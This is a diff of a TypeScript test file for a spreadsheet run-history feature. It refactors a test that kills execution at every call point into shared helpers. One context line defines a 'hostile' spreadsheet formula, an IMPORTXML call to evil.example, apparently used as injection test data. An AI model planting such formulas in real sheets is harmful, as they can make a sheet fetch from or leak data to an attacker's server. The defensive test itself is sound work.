@@ -1,10 +1,10 @@
 /** The sheet “Runs”: every run once, once somebody asked for it, among whatever people add to it. */
-
 import { pump } from '../../src/sheet/pump';
 import { writeHistory } from '../../src/sheet/runs/history-sheet';
 import { startRun } from '../../src/sheet/runs/start';
 import { undoRun } from '../../src/sheet/runs/undo/undo';
-import { Killed, World } from '../fakes/platform/memory-platform';
+import { World } from '../fakes/platform/memory-platform';
+import { mayDie, whereverItDies } from '../support/death';
 import { newest, requestFor, runOut, runThrough } from '../support/runs';
 
 const hostile = '=IMPORTXML("https://evil.example","//a")';
@@ -65,34 +65,19 @@ describe('the sheet of runs', () => {
   });
 
   it('has each run once wherever its end was killed', () => {
-    const play = (killAt: number) => {
+    whereverItDies(50, (onCall, where) => {
       const world = World.connected();
       const sheet = world.book.add('S', [['Domain'], ['a.example']]);
       runThrough(world, sheet);
       writeHistory(world.execution());
       sheet.put(3, 1, 'b.example');
       startRun(world.execution(), requestFor(sheet));
-      let at = 0;
-      try {
-        const platform = world.execution((name) => {
-          at += 1;
-          if (at === killAt) throw new Killed(name);
-        });
-        pump(platform, 30_000);
-      } catch (error) {
-        if (!(error instanceof Killed)) throw error;
-      }
+      mayDie(() => pump(world.execution(onCall), 30_000));
       world.now += 60_000;
       runOut(world);
-      return { world, points: at };
-    };
-    const { points } = play(0);
-    expect(points).toBeGreaterThan(50);
-    for (let at = 1; at <= points; at += 1) {
-      const { world } = play(at);
-      expect([at, runs(world).column('Run number')]).toEqual([at, [1, 2]]);
-      expect([at, runs(world).column('State')]).toEqual([at, ['done', 'done']]);
-      expect([at, runs(world).column('Credits')]).toEqual([at, [1, 1]]);
-    }
+      expect([where(), runs(world).column('Run number')]).toEqual([where(), [1, 2]]);
+      expect([where(), runs(world).column('State')]).toEqual([where(), ['done', 'done']]);
+      expect([where(), runs(world).column('Credits')]).toEqual([where(), [1, 1]]);
+    });
   });
 });
